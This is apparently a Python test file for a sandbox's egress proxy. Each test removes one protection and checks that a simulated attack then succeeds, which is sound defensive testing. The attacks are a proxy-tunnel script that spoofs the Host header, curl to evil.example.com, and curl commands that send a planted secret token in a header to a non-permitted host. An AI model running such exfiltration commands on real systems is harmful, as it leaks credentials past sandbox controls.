"""Each wall of a sandbox's way out, taken away from egress's test build: the attack that it stops
must then succeed, so that network_test.py proves the wall. Skipped as network_test.py is."""
import os
import pathlib
import shutil
import tempfile
import textwrap
import time
import unittest

import harness
import network_test

VALUE = "tok_0123456789abcdefXYZ/+planted"
VISIT = textwrap.dedent("""
    import socket, ssl, sys
    proxy, name, host = sys.argv[1:4]
    s = socket.create_connection(("127.0.0.1", 3128), 10); s.settimeout(20)
    s.sendall(f"CONNECT {proxy}:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode()); s.recv(200)
    if name != "-": s = ssl.create_default_context().wrap_socket(s, server_hostname=name)
    s.sendall(f"GET /hello HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
    print(b"".join(iter(lambda: s.recv(4096), b"")).decode())
    """)
TUNNEL = """
    @id("test-tunnel")
    permit (principal, action == Hardshell::Action::"connect", resource == Hardshell::Host::"api.example.com:443");
    """


def programs_without(test, *walls):
    """A folder of the programs with an egress that lacks these walls."""
    folder = pathlib.Path(tempfile.mkdtemp(prefix="hardshell-programs-", dir="/var/tmp"))
    test.addCleanup(shutil.rmtree, folder, True)
    folder.chmod(0o755)
    for name in ("hardshell", "hardshelld", "hardshell-keeper", "hardshell-egress", "hardshell-launcher",
                 "hardshell-reader", "hardshell-egress-test"):
        shutil.copy2(harness.PROGRAMS / name, folder)
    if walls:
        fake = folder / "hardshell-egress"
        options = " ".join(f"--without {wall}" for wall in walls)
        fake.unlink()
        fake.write_text(f"#!/bin/sh\nexec {folder}/hardshell-egress-test {options}\n")
        fake.chmod(0o755)
    return folder


class Walls(unittest.TestCase):
    def without(self, *walls, tunnel=False):
        """An installation whose egress lacks these walls."""
        hardshell = harness.Installation(programs=programs_without(self, *walls))
        self.addCleanup(hardshell.close)
        if tunnel:
            policy = hardshell.config_file.parent / "policy"
            (policy / "test.cedar").write_text(textwrap.dedent(TUNNEL))
        (hardshell.project / "visit.py").write_text(VISIT)
        hardshell.cli("sandbox", "run", "--", "true")
        world = network_test.WORLD
        for server in (world.api, world.other, *world.inner):
            server.seen.clear()
        return hardshell

    def visit(self, hardshell, *words):
        return hardshell.cli("sandbox", "run", "--", "/usr/bin/python3", "visit.py", *words, check=False).stdout

    def both(self, attack, *walls, tunnel=False):
        """Whether the attack succeeds with the walls, and without them."""
        return attack(self.without(tunnel=tunnel)), attack(self.without(*walls, tunnel=tunnel))

    def test_hello(self):
        def attack(hardshell):
            return "hello from outside" in self.visit(hardshell, "api.example.com", "other.example.com",
                                                      "other.example.com")
        self.assertEqual(self.both(attack, "hello", tunnel=True), (False, True))

    def test_host_field(self):
        def attack(hardshell):
            return "hello from outside" in self.visit(hardshell, "api.example.com", "api.example.com",
                                                      "other.example.com")
        self.assertEqual(self.both(attack, "host_field"), (False, True))

    def test_tls_only(self):
        def attack(hardshell):
            self.visit(hardshell, "api.example.com", "-", "api.example.com")
            time.sleep(1.5)  # what is read ends at a checkpoint, which follows within a second
            done = [event["detail"] for event in hardshell.events(100) if event["kind"] == "connection"]
            return any(one["purpose"] == "tunnel" and one["sent_bytes"] > 0 and "error" not in one for one in done)
        self.assertEqual(self.both(attack, "tls_only", tunnel=True), (False, True))

    def test_addresses(self):
        def attack(hardshell):
            done = hardshell.cli("sandbox", "run", "--", "curl", "-sS", "https://evil.example.com/hello", check=False)
            return "hello from outside" in done.stdout
        self.assertEqual(self.both(attack, "addresses", "address_classes"), (False, True))
        # Either of the two holds by itself.
        self.assertFalse(attack(self.without("addresses")))
        self.assertFalse(attack(self.without("address_classes")))

    def test_leaks(self):
        def attack(hardshell):
            hardshell.cli("secret", "set", "deploy", "--host", "api.example.com", stdin=VALUE + "\n")
            hardshell.cli("sandbox", "run", "--", "curl", "-sS", "-H", f"X-Data: {VALUE}",
                          "https://other.example.com/hello", check=False)
            return any(VALUE in str(one["headers"]) for one in network_test.WORLD.other.seen)
        self.assertEqual(self.both(attack, "leaks"), (False, True))

    def test_placeholders(self):
        def attack(hardshell):
            hardshell.cli("secret", "set", "deploy", "--host", "api.example.com", stdin=VALUE + "\n")
            hardshell.cli("sandbox", "run", "--", "sh", "-c", 'curl -sS -H "X-Data: $HARDSHELL_SECRET_DEPLOY" '
                          "https://other.example.com/hello", check=False)
            return bool(network_test.WORLD.other.seen)
        self.assertEqual(self.both(attack, "placeholders"), (False, True))


if __name__ == "__main__":
    if network_test.ALONE not in os.environ:
        network_test.enter_namespace()
    network_test.WORLD = network_test.World()
    unittest.main()
